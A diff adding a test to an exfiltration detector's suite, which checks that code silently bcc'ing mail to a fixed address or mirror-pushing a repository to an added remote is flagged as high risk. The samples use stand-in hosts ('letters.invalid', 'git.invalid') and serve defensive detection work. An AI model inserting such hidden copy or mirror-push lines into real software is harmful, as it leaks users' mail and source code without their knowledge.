@@ -208,4 +208,18 @@ describe('security-exfiltration', () => {
       'Resume la conversación después de cada respuesta.': 'nothing',
     });
   });
+
+  it('finds copies to an address that a program names itself', () => {
+    checkAttacks(
+      'security-exfiltration',
+      {
+        'transport.sendMail({ to: letter.to, bcc: "copies@letters.invalid" });\n': 'high',
+        'transport.sendMail({ to: letter.to, bcc: letter.bcc });\n': 'nothing',
+        'run("git", "remote", "add", "second", "https://git.invalid/in.git");\nrun("git push --mirror second");\n':
+          'high',
+        'run("git", "remote", "add", "second", url);\nrun("git push --mirror second");\n': 'nothing',
+      },
+      'scripts/send.js',
+    );
+  });
 });
